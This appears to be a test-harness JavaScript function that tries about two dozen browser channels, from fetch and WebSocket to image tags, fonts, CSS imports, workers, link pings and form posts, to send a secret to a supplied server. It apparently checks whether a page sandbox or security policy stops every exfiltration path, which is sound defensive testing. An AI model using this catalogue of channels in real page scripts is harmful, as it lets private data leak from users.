// Every way out that a script in a page has, tried with a secret in the address; one function expression that is
// handed to the browser. `base` is where the secret goes, `secret` the last part of its path. Resolves to what each
// channel said of itself; whether anything left is for the servers to say.
async ({ base, secret }) => {
  const patience = 1500;
  const url = (channel, extension = '') => `${base}/leak/${channel}/${secret}${extension}`;
  const settled = (start) =>
    new Promise((resolve) => {
      setTimeout(() => resolve('no answer'), patience);
      start(resolve);
    });
  const element = (tag, attributes) =>
    settled((resolve) => {
      const made = document.createElement(tag);
      made.onload = () => resolve('loaded');
      made.onerror = () => resolve('refused');
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
    });
  const source = (target, sent) => {
    target.onopen = () => sent('opened');
    target.onerror = () => sent('refused');
  };
  const channels = {
    fetch: () => fetch(url('fetch'), { method: 'POST', body: secret, mode: 'no-cors' }).then(() => 'answered'),
    XMLHttpRequest: () =>
      settled((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve('answered');
        request.onerror = () => resolve('refused');
        request.open('GET', url('XMLHttpRequest'));
        request.send();
      }),
    WebSocket: () => settled((resolve) => source(new WebSocket(url('WebSocket').replace(/^http/, 'ws')), resolve)),
    EventSource: () => settled((resolve) => source(new EventSource(url('EventSource')), resolve)),
    sendBeacon: () => `queued: ${navigator.sendBeacon(url('sendBeacon'), secret)}`,
    image: () => element('img', { src: url('image') }),
    import: () => import(url('import', '.js')).then(() => 'answered'),
    script: () => element('script', { src: url('script', '.js') }),
    stylesheet: () => element('link', { rel: 'stylesheet', href: url('stylesheet') }),
    prefetch: () => element('link', { rel: 'prefetch', href: url('prefetch') }),
    // Its `load` says nothing: a refused frame has it too.
    frame: () => element('iframe', { src: url('frame') }).then(() => 'inserted'),
    audio: () => element('audio', { src: url('audio') }),
    video: () => element('video', { poster: url('video') }),
    track: () =>
      settled((resolve) => {
        const video = document.createElement('video');
        const track = document.createElement('track');
        track.onload = () => resolve('loaded');
        track.onerror = () => resolve('refused');
        track.src = url('track');
        track.default = true;
        video.append(track);
        document.body.append(video);
        track.track.mode = 'showing';
      }),
    'SVG image': () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', url('SVG image'));
      svg.append(image);
      document.body.append(svg);
      return 'inserted';
    },
    'image button': () => element('input', { type: 'image', src: url('image button') }),
    font: () => new FontFace('leak', `url(${url('font')})`).load().then(() => 'loaded'),
    'CSS import': () => {
      if (!document.styleSheets.length) document.head.append(document.createElement('style'));
      document.styleSheets[0].insertRule(`@import url("${url("CSS import")}")`);
      return 'set';
    },
    worker: () => settled((resolve) => (new Worker(url('worker', '.js')).onerror = () => resolve('refused'))),
    worklet: () => new AudioContext().audioWorklet.addModule(url('worklet', '.js')).then(() => 'loaded'),
    object: () => element('object', { data: url('object') }).then(() => 'inserted'),
    ping: () => {
      const link = document.createElement('a');
      link.setAttribute('href', '#here');
      link.setAttribute('ping', url('ping'));
      link.click();
      return 'clicked';
    },
    background: () => {
      document.body.style.backgroundImage = `url(${url('background')})`;
      document.body.getBoundingClientRect();
      return 'set';
    },
    form: () => {
      const form = document.createElement('form');
      form.method = 'post';
      form.target = '_blank'; // so that this page stays, were it sent
      form.action = url('form');
      form.innerText = secret;
      document.body.append(form);
      form.submit();
      return 'submitted';
    },
  };
  const outcomes = {};
  await Promise.all(
    Object.entries(channels).map(async ([name, attempt]) => {
      try {
        outcomes[name] = await attempt();
      } catch (error) {
        outcomes[name] = `refused: ${error.name}`;
      }
    }),
  );
  await new Promise((resolve) => setTimeout(resolve, patience));
  return outcomes;
}
